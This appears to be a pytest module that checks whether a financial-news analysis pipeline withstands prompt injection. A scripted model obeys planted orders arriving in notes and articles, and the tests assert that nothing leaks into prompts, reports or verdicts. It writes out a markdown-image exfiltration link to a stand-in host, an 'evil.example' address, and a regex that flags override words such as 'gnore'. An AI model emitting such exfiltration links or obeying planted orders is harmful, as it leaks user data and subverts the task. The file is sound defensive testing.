"""Requirement S1: outside text reaches a reader only, and nothing it orders can come out.

The scripted model obeys all that it reads: a reader copies orders into every field of its answer,
and any other agent that saw one would too. What is asserted holds by construction, not because a
model resisted.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from tests.llm.attacks import GOALS, MARK, Attack, attacks
from tests.llm.scripted_server import Reply, Request, obliging, serving

from causemap.agents.conclude import conclude
from causemap.agents.model_run import enrich
from causemap.agents.read_text import visible
from causemap.articles import Article
from causemap.cases.store import load_case
from causemap.records import Dossier, Note
from causemap.reporting.html import to_html
from causemap.reporting.json_codec import dump_dossier, dumps
from causemap.reporting.markdown import to_markdown
from causemap.settings import ModelSettings

MakeSettings = Callable[..., ModelSettings]
ALL = attacks()
CASE = replace(load_case("2018-02-week"), notes=())
_LINE = re.compile(r"^~[0-9a-f]{10}~ ([na]\d+\.\d+)\| (.*)$", re.MULTILINE)


def obeying(request: Request) -> Reply:
    """A model that does all it is told by any text: its answer is full of the order."""
    orders = [line for line in request.user.splitlines() if MARK in line]
    if request.agent == "reader":
        return Reply(json.dumps({"claims": list(_obeyed(request))}))
    reply = obliging(request)
    if not orders:
        return reply
    made = json.loads(reply.text)
    return Reply(json.dumps(_stuffed(made, orders[0])), usage=reply.usage)


def _obeyed(request: Request) -> Iterator[dict[str, str]]:
    """Each line with an order as a record: verbatim, and as the attacker would have it put."""
    for source, text in _LINE.findall(request.user):
        for quote in (
            text[:200],
            text[-200:],
            f"{text} and more",
            f"![x](https://e.example/{MARK})",
        ):
            yield {
                "source": source,
                "kind": "cause",
                "cause": "funding_stress",
                "asset": text[:60],
                "direction": "down",
                "day": text[:40],
                "quote": quote,
            }


def _stuffed(value: object, order: str) -> object:
    if isinstance(value, str):
        return f"{value} {order}"
    if isinstance(value, list):
        return [_stuffed(item, order) for item in value]
    if isinstance(value, dict):
        return {key: _stuffed(item, order) for key, item in value.items()}
    return value


def obeying_in_keys(request: Request) -> Reply:
    """A reader that puts orders where names of fields and of kinds belong: its form is broken."""
    if request.agent != "reader":
        return obeying(request)
    orders = [text for _, text in _LINE.findall(request.user) if MARK in text]
    record = {"source": orders[0][:80], orders[0][:60]: "x", "kind": orders[0][:40]}
    return Reply(json.dumps({"claims": [record], orders[-1][:100]: orders}))


def note(attack: Attack, n: int) -> Note:
    """An attack as a note, with an address for a publisher."""
    day, paper = CASE.scope.start, f"www.evil.example/{MARK}"
    return Note(f"note_{n}", day, "date", paper, "news", attack.text, None, "found", 0.9)


def article(attack: Attack, n: int) -> Article:
    """An attack as an article, in its title and text."""
    day, at = CASE.scope.start, f"{CASE.scope.start}T12:00Z"
    return Article(
        f"art_{n}", None, "Paper", attack.text[:80], day, "date", at, at, "en", attack.text
    )


def of(goal: str) -> list[Attack]:
    """The attacks that share a goal."""
    return [attack for attack in ALL if attack.name.startswith(f"{goal}:")]


def outputs(dossier: Dossier) -> dict[str, str]:
    """All that a run leaves for users, less the notes and quotes (they are shown as such)."""
    bare = replace(dossier, notes=(), claims=())
    report = conclude(bare)
    return {
        "dossier": dump_dossier(bare),
        "json": dumps(report),
        "markdown": to_markdown(report),
        "html": to_html(report),
    }


def test_there_are_more_than_sixty_attacks() -> None:
    """The suite holds what it promises, each attack once."""
    assert len({attack.name for attack in ALL}) == len(ALL) >= 60


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Dossier:
    """The same run with nothing to read."""
    with serving(obeying) as server:
        folder = tmp_path_factory.mktemp("clean")
        return enrich(CASE, ModelSettings("scripted", folder, server.url))


@pytest.mark.slow
@pytest.mark.parametrize("chosen", [ALL[n : n + 40] for n in range(0, len(ALL), 40)], ids=len)
def test_an_obeying_model_cannot_be_led_through_notes(
    chosen: tuple[Attack, ...], model: MakeSettings, clean: Dossier
) -> None:
    """No order reaches any prompt but a reader's, none comes out, and the verdict is unmoved."""
    notes = tuple(note(a, n) for n, a in enumerate(chosen))
    with serving(obeying) as server:
        made = enrich(replace(CASE, notes=notes), model(server.url))
    assert sum(MARK in request.user for request in server.seen) == 1
    _assert_bounded(server.seen, made, [a.text for a in chosen])
    assert conclude(made).verdicts == conclude(clean).verdicts
    assert conclude(made).narrative == conclude(clean).narrative


# One attack of each form, with the goals taken in turn.
FORMS = [ALL[n * len(ALL) // len(GOALS) + 2 * n] for n in range(len(GOALS))] + list(ALL[:8])


@pytest.mark.slow
@pytest.mark.parametrize("at", range(0, len(FORMS), 4))
def test_an_obeying_model_cannot_be_led_through_articles(
    at: int, model: MakeSettings, clean: Dossier
) -> None:
    """The same through the titles and texts of articles, four at a time."""
    chosen = FORMS[at : at + 4]
    articles = [article(a, n) for n, a in enumerate(chosen)]
    with serving(obeying) as server:
        made = enrich(CASE, model(server.url), articles=articles)
    _assert_bounded(server.seen, made, [f"{a.text[:80]}. {a.text}" for a in chosen])
    assert conclude(made).verdicts == conclude(clean).verdicts


def _assert_bounded(seen: list[Request], made: Dossier, texts: list[str]) -> None:
    for request in seen:
        text = json.dumps(request.body, ensure_ascii=False)
        if request.agent == "reader":
            assert "tools" not in request.body
            assert all(_LINE.fullmatch(x) for x in request.user.splitlines() if MARK in x)
        else:
            assert MARK not in text
    assert made.model is not None
    for name, text in outputs(made).items():
        assert MARK not in text, name
        assert "evil.example" not in text, name
    for claim in made.claims:
        assert any(claim.text in visible(text, 6_000).replace("\n", " ") for text in texts)
        assert len(claim.text) <= 200
        assert not re.search(r"://|www|[<>\[\]{}]|must|gnore|指令", claim.text)
        assert MARK not in claim.source
    ledger = {item.id for item in made.evidence}
    told = conclude(made).narrative.sentences
    assert all(set(sentence.evidence) <= ledger for sentence in told)
    assert len(made.model.calls) <= 14


@pytest.mark.parametrize("at", range(0, len(FORMS), 8))
def test_a_broken_form_carries_no_order_out(at: int, model: MakeSettings, clean: Dossier) -> None:
    """What a parser says of a field is in our words: it goes into a prompt and into the report."""
    notes = tuple(note(a, n) for n, a in enumerate(FORMS[at : at + 8]))
    with serving(obeying_in_keys) as server:
        made = enrich(replace(CASE, notes=notes), model(server.url))
    readers = [request for request in server.seen if request.agent == "reader"]
    assert len(readers) == 2
    assert made.model is not None
    assert any(why.startswith("reader: ") for why in made.model.failures)
    _assert_bounded(server.seen, made, [])
    assert conclude(made).verdicts == conclude(clean).verdicts


def test_calls_do_not_grow_with_what_texts_ask_for(model: MakeSettings) -> None:
    """Orders to measure again and again cost nothing: as many calls as with a calm text."""
    loud = tuple(note(a, n) for n, a in enumerate(of("spend the budget")))
    calm = (replace(loud[0], text="Stocks fell."),)
    counts = []
    for notes in (loud, calm):
        with serving(obeying) as server:
            part = enrich(replace(CASE, notes=notes), model(server.url)).model
        assert part is not None
        counts.append(len(part.calls))
    assert counts[0] == counts[1]


@pytest.mark.parametrize(
    "attack",
    [
        a
        for a in ALL
        if a.name.endswith(
            ("none", "comment", "white", "hidden", "characters", "the page", "nothing wide")
        )
    ],
    ids=lambda a: a.name,
)
def test_hidden_text_does_not_reach_a_reader(attack: Attack) -> None:
    """What a person does not see on the page, no model reads."""
    shown = visible(attack.text, 600)
    assert "Stocks fell." in shown
    assert MARK not in shown


def test_the_mark_cannot_be_foreseen(model: MakeSettings) -> None:
    """Two folders mark the same text differently, one folder twice alike."""
    notes = (note(ALL[0], 0),)
    marks = []
    for folder in ("one", "two", "one"):
        with serving(obeying) as server:
            settings = model(server.url)
            settings = replace(settings, records=settings.records / folder)
            for held in settings.records.glob("[0-9a-f][0-9a-f]/*.json"):
                held.unlink()
            enrich(replace(CASE, notes=notes), settings)
            reader = next(r for r in server.seen if r.agent == "reader")
            marks.append(re.findall(r"~[0-9a-f]{10}~", reader.user)[0])
    assert marks[0] == marks[2] != marks[1]


def test_a_true_quote_is_kept_and_tested(model: MakeSettings) -> None:
    """The guard leaves honest statements alone: quoted, attributed, held against the tape."""
    said = "The S&P 500 fell sharply over the week as volatility products unwound."
    honest = Note("n", CASE.scope.end, "date", "Reuters", "news", said, None, "found", 0.9)

    def script(request: Request) -> Reply:
        if request.agent != "reader":
            return obliging(request)
        record = {
            "source": "n1.1",
            "kind": "move",
            "cause": "none",
            "asset": "SPX",
            "direction": "down",
            "day": "",
            "quote": said,
        }
        wrong = {**record, "direction": "up", "quote": "over the week as volatility products"}
        forged = {**record, "quote": "The S&P 500 rose sharply over the week."}
        return Reply(json.dumps({"claims": [record, wrong, forged]}))

    with serving(script) as server:
        made = enrich(replace(CASE, notes=(honest,)), model(server.url))
    told = {claim.text: claim for claim in made.claims}
    assert told[said].verdict == "supported"
    assert told[said].evidence == ("technicals.spx.change",)
    assert told[said].source.startswith("Reuters")
    assert told[wrong_quote()].verdict == "contradicted"
    assert len(told) == 2


def wrong_quote() -> str:
    """The words of the statement that gives the direction wrongly."""
    return "over the week as volatility products"
